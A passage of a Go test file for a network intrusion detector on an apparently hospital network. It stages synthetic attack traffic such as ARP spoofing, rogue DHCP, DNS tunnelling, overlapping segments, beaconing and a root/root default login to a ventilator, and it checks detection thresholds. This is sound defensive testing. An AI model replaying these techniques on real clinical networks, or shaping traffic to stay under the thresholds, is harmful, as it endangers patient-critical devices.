		s.said(event.NameQueried, laptop, "10.20.1.2", event.Text(event.Domain, "tunnel.example"), event.Int(event.Length, length), event.Int(event.Entropy, entropy), event.Int(event.Subject, i+1))
		s.wait(time.Second)
	}
}

var networkDetections = []detection{
	{name: "there and back", kind: finding.ARPSpoofing, scene: func(s *scene) { s.claim(time.Second, macA, macB, macA) }, confidence: device.Medium, count: 2},
	{name: "by turns", kind: finding.ARPSpoofing, scene: func(s *scene) { s.claim(time.Second, macA, macB, macA, macB, macA) }, confidence: device.High, count: 4},
	{name: "a single hand-over", kind: finding.ARPSpoofing, scene: func(s *scene) { s.claim(time.Second, macA, macA, macB, macB, macB) }},
	{name: "handed on twice", kind: finding.ARPSpoofing, scene: func(s *scene) { s.claim(time.Second, macA, macB, macC) }},
	{name: "back after an hour", kind: finding.ARPSpoofing, scene: func(s *scene) { s.claim(time.Hour, macA, macB, macA, macB) }},
	{name: "VRRP", kind: finding.ARPSpoofing, scene: func(s *scene) { s.claim(time.Second, macA, vrrp, macA, vrrp, macA) }},

	{name: "another router", kind: finding.RogueDHCP, scene: func(s *scene) { s.offer("10.20.8.1", "10.20.8.1", ct1); s.offer(laptop, laptop, pacs) }, confidence: device.Low, count: 1},
	{name: "a pair that stands in for each other", kind: finding.RogueDHCP, scene: func(s *scene) {
		for _, client := range []string{ct1, pacs, "10.20.8.12"} {
			s.offer("10.20.8.2", "10.20.8.1", client)
			s.offer("10.20.8.3", "10.20.8.1", client)
		}
	}},
	{name: "one for each network", kind: finding.RogueDHCP, scene: func(s *scene) { s.offer("10.20.8.1", "10.20.8.1", ct1); s.offer("10.20.3.1", "10.20.3.1", mon3) }},
	{name: "two networks for one client", kind: finding.RogueDHCP, scene: func(s *scene) {
		s.offer("10.20.8.1", "10.20.8.1", ct1)
		s.said(event.AddressOffered, "192.168.1.1", mac(ct1).String(), event.Text(event.Network, "192.168.1.0/24"), event.Int(event.Settings, 7))
	}, confidence: device.Low},
	{name: "a client that moves on", kind: finding.RogueDHCP, scene: func(s *scene) {
		s.offer("10.20.8.1", "10.20.8.1", ct1)
		s.wait(10 * time.Minute)
		s.said(event.AddressOffered, "192.168.1.1", mac(ct1).String(), event.Text(event.Network, "192.168.1.0/24"), event.Int(event.Settings, 7))
	}},
	{name: "one that the baseline has", kind: finding.RogueDHCP, baseline: expects(Link{"0.0.0.0", "10.20.8.1", "dhcp"}), scene: func(s *scene) { s.offer("10.20.8.1", "10.20.8.1", ct1) }},
	{name: "one that the baseline has not", kind: finding.RogueDHCP, baseline: expects(Link{"0.0.0.0", "10.20.8.1", "dhcp"}), scene: func(s *scene) { s.offer(laptop, "10.20.8.1", ct1) }, confidence: device.High},
	{name: "a baseline that is silent about it", kind: finding.RogueDHCP, baseline: expects(Link{ct1, pacs, "dicom"}), scene: func(s *scene) { s.offer("10.20.8.1", "10.20.8.1", ct1) }},

	{name: "forty long names", kind: finding.DNSTunnel, scene: func(s *scene) { s.asks(tunnelNames, tunnelLength, tunnelEntropy) }, confidence: device.High, count: tunnelNames},
	{name: "thirty-nine", kind: finding.DNSTunnel, scene: func(s *scene) { s.asks(tunnelNames-1, tunnelLength, tunnelEntropy) }},
	{name: "shorter", kind: finding.DNSTunnel, scene: func(s *scene) { s.asks(200, tunnelLength-1, 500) }},
	{name: "like words", kind: finding.DNSTunnel, scene: func(s *scene) { s.asks(200, 100, tunnelEntropy-1) }},
	{name: "a few a minute", kind: finding.DNSTunnel, scene: func(s *scene) {
		for range 6 {
			s.asks(30, tunnelLength, tunnelEntropy)
			s.wait(10 * time.Minute)
		}
	}},
	{name: "one like packed bytes", kind: finding.DNSTunnel, scene: func(s *scene) { s.asks(1, tunnelOneName, tunnelOneEntropy) }, confidence: device.Low},

	{name: "other bytes once", kind: finding.SegmentOverlap, scene: func(s *scene) { s.resent(1, "b") }, confidence: device.Low, count: 1},
	{name: "other bytes three times", kind: finding.SegmentOverlap, scene: func(s *scene) { s.resent(3, "b") }, confidence: device.Medium, count: 3},
	{name: "the same bytes", kind: finding.SegmentOverlap, scene: func(s *scene) { s.resent(3, "a") }},
	{name: "keep-alives", kind: finding.SegmentOverlap, scene: func(s *scene) {
		l := s.open(ehr, gate, 24000).say(client([]byte("aaaa")))
		l.seq[flow.Client]--
		l.send(flow.Client, wire.ACK, []byte{0})
	}},
	{name: "fragments with other bytes", kind: finding.SegmentOverlap, scene: func(s *scene) { s.fragments("bbbbbbbb") }, confidence: device.Low, count: 1},
	{name: "fragments with the same", kind: finding.SegmentOverlap, scene: func(s *scene) { s.fragments("aaaaaaaa") }},

	{name: "around the guard", kind: finding.GuardBypassed, baseline: guarded, scene: func(s *scene) { s.pump(); s.talk(ehr, gate, 24000, told1("a")...) }, confidence: device.High, harm: device.Catastrophic},
	{name: "through the guard", kind: finding.GuardBypassed, baseline: guarded, scene: func(s *scene) { s.talk("10.20.3.9", gate, 24000, told1("a")...) }},
	{name: "an attempt that came to nothing", kind: finding.GuardBypassed, baseline: guarded, scene: func(s *scene) { s.syn(ehr, gate, 24000); s.refused(ehr, gate, 24000) }},
	{name: "no guard", kind: finding.GuardBypassed, scene: func(s *scene) { s.talk(ehr, gate, 24000, told1("a")...) }},
}

var guarded = &Baseline{Guards: map[string]string{gate: "10.20.3.9"}}

// resent sends a segment of which a part comes again, with these bytes.
func (s *scene) resent(n int, what string) {
	for range n {
		l := s.open(ehr, gate, 24000).say(client([]byte(strings.Repeat("a", 100))))
		l.seq[flow.Client] -= 50
		l.say(client([]byte(strings.Repeat(what, 50)))).close()
	}
}

// fragments sends a datagram in three fragments, the third in the place of the first.
func (s *scene) fragments(again string) {
	s.id++
	d := datagram(5000, 5001, []byte("aaaaaaaabbbbbbbb"))
	const more = 0x2000
	s.ip(ehr, gate, wire.ProtoUDP, d[:16], more)
	s.ip(ehr, gate, wire.ProtoUDP, []byte(again), more|1)
	s.ip(ehr, gate, wire.ProtoUDP, d[16:], 2)
}

// call is one conversation in clear with a server outside.
func (s *scene) call(from string, port uint16, size int) {
	s.talk(from, away, port, client([]byte("q")), server(make([]byte, size)))
}

// calls are calls at the given intervals, in milliseconds.
// datagrams is a question and its answer, from a new port.
func (s *scene) datagrams(from string, port uint16) {
	s.port++
	s.udp(from, s.port, away, port, []byte("question"))
	s.udp(away, port, from, s.port, []byte("answer"))
}

func (s *scene) calls(n int, call func(), gaps ...int) {
	for i := range n {
		before := s.now
		call()
		s.now = before + int64(gaps[i%len(gaps)])*1e6
	}
}

// secured are what crosses the wire of a TLS conversation.
func secured(t testing.TB, version uint16, name string, problems bool) []piece {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), crand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	parent := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "Ada CA"}}
	own := &x509.Certificate{
		SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: "service"}, DNSNames: []string{"service.lumen.example"},
		NotBefore: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC), NotAfter: time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC),
	}
	if problems {
		own.NotAfter = time.Date(2026, 2, 1, 0, 0, 0, 0, time.UTC)
	}
	der, err := x509.CreateCertificate(crand.Reader, own, parent, key.Public(), key)
	if err != nil {
		t.Fatal(err)
	}
	server := &tls.Config{MinVersion: version, MaxVersion: version, Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
	return handshakeFor(t, &tls.Config{MinVersion: version, MaxVersion: version, ServerName: name, InsecureSkipVerify: true}, server)
}

func handshakeFor(t testing.TB, client, server *tls.Config) []piece {
	if tt, ok := t.(*testing.T); ok {
		return handshake(tt, client, server)
	}
	return nil
}

// The conversations are made once: who calls home does it in the same way.
func secureCalls(version uint16, name string, problems bool, n int, gap time.Duration) func(*scene) {
	return func(s *scene) {
		pieces := secured(new(testing.T), version, name, problems)
		for range n {
			before := s.now
			s.talk(ct1, away, 443, pieces...)
			s.now = before + int64(gap)
		}
	}
}

var outsideDetections = []detection{
	{name: "eleven calls a minute apart", kind: finding.Beaconing, scene: func(s *scene) { s.calls(11, func() { s.call(ct1, 8080, 100) }, 60000) }, confidence: device.Low, count: 11},
	{name: "eleven calls by datagram", kind: finding.Beaconing, scene: func(s *scene) { s.calls(11, func() { s.datagrams(ct1, 8080) }, 60000) }, confidence: device.Low, count: 11},
	{name: "datagrams that nobody answers", kind: finding.Beaconing, scene: func(s *scene) { s.calls(15, func() { s.port++; s.udp(ct1, s.port, away, 8080, []byte("q")) }, 60000) }},
	{name: "a clock", kind: finding.Beaconing, scene: func(s *scene) { s.calls(15, func() { s.datagrams(ct1, 123) }, 64000) }},
	{name: "names", kind: finding.Beaconing, scene: func(s *scene) { s.calls(15, func() { s.datagrams(ct1, 53) }, 60000) }},
	{name: "a telephone that stays registered", kind: finding.Beaconing, scene: func(s *scene) { s.calls(30, func() { s.datagrams(ct1, 5060) }, 30000) }},
	{name: "tunnels that stay open", kind: finding.Beaconing, scene: func(s *scene) {
		s.calls(30, func() {
			for _, port := range []uint16{500, 4500, 1194, 51820} {
				s.datagrams(ct1, port)
			}
		}, 25000)
	}},
	{name: "ten calls", kind: finding.Beaconing, scene: func(s *scene) { s.calls(10, func() { s.call(ct1, 8080, 100) }, 60000) }},
	{name: "jitter of 10 per cent", kind: finding.Beaconing, scene: func(s *scene) { s.calls(11, func() { s.call(ct1, 8080, 100) }, 54000, 66000) }, confidence: device.Low},
	{name: "jitter of 11 per cent", kind: finding.Beaconing, scene: func(s *scene) { s.calls(31, func() { s.call(ct1, 8080, 100) }, 53400, 66600) }},
	{name: "every four seconds", kind: finding.Beaconing, scene: func(s *scene) { s.calls(40, func() { s.call(ct1, 8080, 100) }, 4900) }},
	{name: "large answers", kind: finding.Beaconing, scene: func(s *scene) { s.calls(15, func() { s.call(ct1, 8080, beaconBytes) }, 60000) }},
	{name: "after a busy beginning", kind: finding.Beaconing, scene: func(s *scene) {
		s.calls(30, func() { s.call(ct1, 8080, 100) }, 1000, 7000, 120000)
		s.calls(12, func() { s.call(ct1, 8080, 100) }, 60000)
	}, confidence: device.Low},
	{name: "inside", kind: finding.Beaconing, scene: func(s *scene) {
		s.calls(15, func() { s.talk(ct1, pacs, 8080, client([]byte("q")), server([]byte("a"))) }, 60000)
	}},
	{name: "a service by name over TLS 1.3", kind: finding.Beaconing, scene: secureCalls(tls.VersionTLS13, "service.lumen.example", false, 13, 5*time.Minute)},
	{name: "TLS 1.3 to a bare address", kind: finding.Beaconing, scene: secureCalls(tls.VersionTLS13, "", false, 13, 5*time.Minute), confidence: device.Low},
	{name: "a service by name over TLS 1.2", kind: finding.Beaconing, scene: secureCalls(tls.VersionTLS12, "service.lumen.example", false, 13, 5*time.Minute)},
	{name: "a false certificate", kind: finding.Beaconing, scene: secureCalls(tls.VersionTLS12, "service.lumen.example", true, 13, 5*time.Minute), confidence: device.Low},
	{name: "a service that the baseline has not", kind: finding.Beaconing, baseline: expects(Link{ct1, pacs, ""}), scene: secureCalls(tls.VersionTLS13, "service.lumen.example", false, 13, 5*time.Minute), confidence: device.High},
	{name: "clear calls that the baseline has", kind: finding.Beaconing, baseline: expects(Link{ct1, away, "unknown"}), scene: func(s *scene) { s.calls(15, func() { s.call(ct1, 8080, 100) }, 60000) }},

	{name: "in clear", kind: finding.UnexpectedExternalPeer, scene: func(s *scene) { s.is(ct1, "Helia 64", device.Imaging); s.call(ct1, 8080, 10) }, confidence: device.Low, count: 1},
	{name: "not a medical device", kind: finding.UnexpectedExternalPeer, scene: func(s *scene) { s.is(ct1, "Helia 64", device.Imaging); s.call(laptop, 8080, 10) }},
	{name: "the maker's service", kind: finding.UnexpectedExternalPeer, scene: func(s *scene) {
		s.is(ct1, "Helia 64", device.Imaging)
		secureCalls(tls.VersionTLS13, "service.lumen.example", false, 3, time.Minute)(s)
	}},
	{name: "no answer", kind: finding.UnexpectedExternalPeer, scene: func(s *scene) { s.is(ct1, "Helia 64", device.Imaging); s.syn(ct1, away, 80) }},
	{name: "from outside", kind: finding.UnexpectedExternalPeer, scene: func(s *scene) {
		s.is(ct1, "Helia 64", device.Imaging)
		s.talk(away, ct1, 8080, client([]byte("q")), server([]byte("a")))
	}, confidence: device.Medium},
	{name: "TLS that the baseline has not", kind: finding.UnexpectedExternalPeer, baseline: expects(Link{ct1, pacs, ""}), scene: func(s *scene) {
		s.is(ct1, "Helia 64", device.Imaging)
		secureCalls(tls.VersionTLS13, "service.lumen.example", false, 3, time.Minute)(s)
	}, confidence: device.High, count: 3},
	{name: "as the baseline has it", kind: finding.UnexpectedExternalPeer, baseline: expects(Link{ct1, away, "unknown"}), scene: func(s *scene) { s.is(ct1, "Helia 64", device.Imaging); s.call(ct1, 8080, 10) }},
}

// Weak by design or age.

var weaknessDetections = []detection{
	{name: "FTP", kind: finding.CredentialsInClear, scene: func(s *scene) { s.ftp(laptop, ct1, true); s.ftp(laptop, ct1, true) }, confidence: device.High, count: 2},
	{name: "anonymous", kind: finding.CredentialsInClear, scene: func(s *scene) {
		s.talk(laptop, ct1, 21, server([]byte("220 x\r\n")), client([]byte("USER anonymous\r\n")), server([]byte("230 ok\r\n")))
	}},
	{name: "a challenge", kind: finding.CredentialsInClear, scene: func(s *scene) {
		s.said(event.LoginSeen, laptop, ct1, event.Text(event.Protocol, "smb"), event.Text(event.Scheme, "ntlm"), event.Int(event.Outcome, event.Succeeded))
	}},
	{name: "encrypted", kind: finding.CredentialsInClear, scene: func(s *scene) {
		s.said(event.LoginSeen, laptop, ct1, event.Text(event.Protocol, "http"), event.Text(event.Scheme, "basic"), event.Int(event.Protection, device.Encrypted))
	}},

	{name: "TLS 1.0", kind: finding.WeakTLS, scene: secureCalls(tls.VersionTLS10, "", false, 1, 0), confidence: device.High},
	{name: "TLS 1.2", kind: finding.WeakTLS, scene: secureCalls(tls.VersionTLS12, "", false, 1, 0)},
	{name: "a handshake that failed", kind: finding.WeakTLS, scene: func(s *scene) {
		s.said(event.TLSSeen, laptop, ct1, event.Text(event.Version, "SSL 3.0"), event.Text(event.Reason, "obsolete version"), event.Int(event.Outcome, event.Failed))
	}},

	{name: "expired", kind: finding.CertificateInvalid, scene: secureCalls(tls.VersionTLS12, "", true, 2, time.Second), confidence: device.High, title: "(expired)"},
	{name: "valid", kind: finding.CertificateInvalid, scene: secureCalls(tls.VersionTLS12, "", false, 1, 0)},

	{name: "Windows 7", kind: finding.LegacyOS, scene: func(s *scene) {
		s.is(ct1, "Helia 64", device.Imaging)
		s.said(event.IdentitySeen, ct1, "", event.Text(event.OS, "Windows 7 or Server 2008 R2"))
	}, confidence: device.High, harm: device.Negligible, title: "Windows 7"},
	{name: "Windows 10", kind: finding.LegacyOS, scene: func(s *scene) { s.said(event.IdentitySeen, ct1, "", event.Text(event.OS, "Windows 10")) }, confidence: device.Medium, title: "Windows 10"},
	{name: "Windows 10 or a newer one", kind: finding.LegacyOS, scene: func(s *scene) {
		for _, os := range []string{"Windows 10 or newer", "Windows 10 or later", "Windows 10 or Server 2019", "Windows 11"} {
			s.said(event.IdentitySeen, ct1, "", event.Text(event.OS, os))
		}
	}},

	{name: "Telnet", kind: finding.InsecureService, scene: func(s *scene) {
		s.talk(laptop, mon3, 23, server([]byte("\xff\xfd\x18\xff\xfb\x01mon-3 login: ")), client([]byte("lea\r\n")))
	}, confidence: device.High, title: "telnet"},
	{name: "Telnet in TLS", kind: finding.InsecureService, scene: func(s *scene) {
		s.said(event.ProtocolSeen, laptop, mon3, event.Text(event.Protocol, "telnet"), event.Int(event.Port, 992), event.Int(event.Protection, device.Encrypted), event.Int(event.Inferred, 1))
	}},
	{name: "FTP", kind: finding.InsecureService, scene: func(s *scene) { s.ftp(laptop, ct1, true) }, confidence: device.High, title: "ftp"},
	{name: "FTP that goes on in TLS", kind: finding.InsecureService, scene: func(s *scene) {
		pieces := []piece{server([]byte("220 lab-1 ready\r\n")), client([]byte("AUTH TLS\r\n")), server([]byte("234 go\r\n"))}
		s.talk(laptop, ct1, 21, append(pieces, secured(new(testing.T), tls.VersionTLS12, "", false)...)...)
	}},
	{name: "SNMP version 2c", kind: finding.InsecureService, scene: func(s *scene) {
		s.udp(laptop, 5000, mon3, 161, snmpAsk)
		s.udp(mon3, 161, laptop, 5000, snmpAnswer)
	}, confidence: device.High, title: "snmp"},
	{name: "SNMP to nobody", kind: finding.InsecureService, scene: func(s *scene) { s.udp(laptop, 5000, mon3, 161, snmpAsk) }},
	{name: "SNMP version 3", kind: finding.InsecureService, scene: func(s *scene) { s.udp(laptop, 5000, mon3, 161, snmp3(7, berElement(4, "sealed"))) }},
	{name: "SMB version 1", kind: finding.InsecureService, scene: func(s *scene) {
		s.talk(laptop, ct1, 445, client(smb1(smb.ComTransaction2, 0, 1, make([]byte, 30), nil)), server(smb1(smb.ComTransaction2, 0x80, 1, nil, nil)))
	}, confidence: device.High, title: "smb"},
	{name: "RDP without TLS", kind: finding.InsecureService, scene: func(s *scene) { s.remote(laptop, ct1) }, confidence: device.High, title: "rdp"},
	{name: "SSH", kind: finding.InsecureService, scene: func(s *scene) { s.ssh(laptop, ct1) }},
	{name: "SSH version 1", kind: finding.InsecureService, scene: func(s *scene) {
		s.talk(laptop, ct1, 22, server([]byte("SSH-1.5-x\n")), client([]byte("SSH-1.5-y\n")))
	}, confidence: device.High, title: "ssh"},
	{name: "SSH version 1 for who wants it", kind: finding.InsecureService, scene: func(s *scene) {
		s.talk(laptop, ct1, 22, server([]byte("SSH-1.99-x\n")), client([]byte("SSH-2.0-y\r\n")))
	}, confidence: device.High, title: "ssh"},
	{name: "VNC without a password", kind: finding.InsecureService, scene: func(s *scene) { s.vnc(1) }, confidence: device.High, title: "vnc"},
	{name: "VNC with one", kind: finding.InsecureService, scene: func(s *scene) { s.vnc(2) }},

	{name: "accepted", kind: finding.DefaultCredentialSeen, scene: func(s *scene) { s.is(vent3, "V2", device.Ventilation); s.root("\r\nWelcome\r\n$ ") }, confidence: device.High, harm: device.Catastrophic},
	{name: "refused", kind: finding.DefaultCredentialSeen, scene: func(s *scene) { s.root("\r\nLogin incorrect\r\nlogin: ") }},
	{name: "no answer", kind: finding.DefaultCredentialSeen, scene: func(s *scene) {
		s.said(event.LoginSeen, laptop, vent3, event.Text(event.Protocol, "telnet"), event.Int(event.DefaultSecret, 1))
	}, confidence: device.Medium},
	{name: "of a station that gives orders", kind: finding.DefaultCredentialSeen, scene: func(s *scene) {
		s.pump()
		s.talk(ehr, gate, 24000, told1("a")...)
		s.said(event.LoginSeen, laptop, ehr, event.Text(event.Protocol, "telnet"), event.Int(event.DefaultSecret, 1), event.Int(event.Outcome, event.Succeeded))
	}, confidence: device.High, harm: device.Catastrophic},
	{name: "of a station that reaches nothing", kind: finding.DefaultCredentialSeen, scene: func(s *scene) {
		s.said(event.LoginSeen, laptop, ehr, event.Text(event.Protocol, "telnet"), event.Int(event.DefaultSecret, 1), event.Int(event.Outcome, event.Succeeded))
	}, confidence: device.High, harm: device.Negligible},

	{name: "a length beyond its frame", kind: finding.MalformedMessage, scene: func(s *scene) {
		s.udp(laptop, 5000, "10.20.1.2", 53, dnsMessage(0x0100, "pacs.ada.example", 1)[:20])
	}, confidence: device.Medium, title: "dns"},
	{name: "beyond a bound", kind: finding.MalformedMessage, scene: func(s *scene) {
		s.said(event.BoundReached, laptop, pacs, event.Text(event.Protocol, "http"), event.Text(event.Bound, "decoded body"))
	}, confidence: device.Low, title: "http; larger than what is read"},
	{name: "a greeting before the identification of SSH", kind: finding.MalformedMessage, scene: func(s *scene) {
		kexinit := append([]byte{0, 0, 2, 4, 8, 20}, make([]byte, 0x1fe)...)
		s.talk(laptop, ct1, 22, server([]byte("Authorised use only\r\nSSH-2.0-OpenSSH_9.6\r\n")), client([]byte("SSH-2.0-OpenSSH_9.6\r\n")), server(kexinit), server(kexinit))
	}},
	{name: "a version that is one", kind: finding.MalformedMessage, scene: func(s *scene) { s.vnc(2) }},
}

func (s *scene) vnc(security byte) {
	v := []byte("RFB 003.008\n")
	s.talk(laptop, mon3, 5900, server(v), client(v), server([]byte{1, security}), client([]byte{security}))
}

func (s *scene) root(answer string) {
	s.talk(laptop, vent3, 23, server([]byte("\xff\xfd\x18login: ")), client([]byte("root\r\n")), server([]byte("Password: ")), client([]byte("root\r\n")), server([]byte(answer)))
}

// TestTakenOver is the ward's second step: from the laptop into the scanner,
// from there on to the archive.
func TestTakenOver(t *testing.T) {
	s := newScene()
	s.is(ct1, "Helia 64", device.Imaging)
	s.ran(laptop, ct1, event.Succeeded)
	s.opened(ct1, pacs, "rdp")
	var got []string
	for _, f := range s.play(t, Config{}).Findings {
		if f.Kind == finding.LateralMovement {
			got = append(got, fmt.Sprintf("%s %v x%d", f.Peer, f.Confidence, f.Count))
		}
	}
	slices.Sort(got)
	if want := []string{ct1 + " high x1", pacs + " high x1"}; !slices.Equal(got, want) {
		t.Errorf("%q, want %q", got, want)
	}
}
